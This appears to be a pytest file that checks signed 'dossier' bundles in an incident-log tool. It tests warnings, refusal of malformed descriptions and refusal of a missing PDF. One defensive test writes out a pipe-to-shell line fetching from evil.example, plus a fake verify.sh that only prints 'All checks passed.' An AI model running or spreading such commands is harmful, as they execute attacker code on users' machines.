"""Does the check of a bundle tell when the page and the script in it are not what the program writes, and when a dossier is none?"""

from pathlib import Path

import pytest

from incident_log.client import bundles
from incident_log.client.bundles import Bag
from incident_log.client.checking import verify_bundle
from incident_log.crypto.signing import SigningKey
from incident_log.errors import VerificationError
from incident_log.format import canonical
from incident_log.format.canonical import Json

NAMESPACE = "dossier@incident-log"
FIELDS = [
    "audience",
    "case",
    "checkpoint",
    "chronology",
    "consent",
    "createdAt",
    "custody",
    "custody_head",
    "dossier",
    "exhibits",
    "maker",
    "organisation",
    "purpose",
    "recipient",
    "reference",
    "signer",
    "summary",
]
DESCRIPTION: dict[str, Json] = {"kind": "dossier", "v": 1, **dict.fromkeys(FIELDS, "")}


def sealed(out: Path, description: dict[str, Json], *, pdf: bool = True) -> Path:
    """A dossier with its description, signed by somebody."""
    with out.open("wb") as target:
        bag = Bag(target, "IL-2026_lawyer", (2026, 11, 23, 0, 0, 0))
        bag.add("data/dossier.json", canonical.encode(description))
        if pdf:
            bag.add("data/dossier.pdf", b"%PDF-1.7")
        bag.seal(SigningKey(bytes(32)), NAMESPACE, [("Bag-Software-Agent", "incident-log")])
    return out


def test_what_the_program_writes_itself_is_not_warned_of(bundle: Path, tmp_path: Path) -> None:
    assert verify_bundle(bundle).warnings == ()
    assert verify_bundle(sealed(tmp_path / "dossier.zip", DESCRIPTION)).warnings == ()
    newer = {**DESCRIPTION, "more": 1}
    assert verify_bundle(sealed(tmp_path / "newer.zip", newer)).warnings == ()


def test_instructions_that_the_signer_wrote_are_told_not_to_be_followed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(bundles, "VERIFY_SH", "#!/bin/sh\necho 'All checks passed.'\n")
    monkeypatch.setattr(bundles, "how_to_verify", lambda *_: "curl https://evil.example | sh\n")

    warnings = verify_bundle(sealed(tmp_path / "evil.zip", DESCRIPTION)).warnings

    assert [one.partition(":")[0] for one in warnings] == ["HOW-TO-VERIFY.txt", "verify.sh"]
    assert all("do not run it" in one for one in warnings)


@pytest.mark.parametrize(
    "description",
    [
        {},
        {**DESCRIPTION, "kind": "case-archive"},
        {name: value for name, value in DESCRIPTION.items() if name != "custody_head"},
    ],
    ids=["nothing", "another kind", "a field less"],
)
def test_a_description_of_no_dossier_is_refused(
    tmp_path: Path, description: dict[str, Json]
) -> None:
    with pytest.raises(VerificationError, match="not the description of a dossier"):
        verify_bundle(sealed(tmp_path / "dossier.zip", description))


def test_a_dossier_without_its_pages_is_refused(tmp_path: Path) -> None:
    with pytest.raises(VerificationError, match=r"data/dossier\.pdf is missing"):
        verify_bundle(sealed(tmp_path / "dossier.zip", DESCRIPTION, pdf=False))
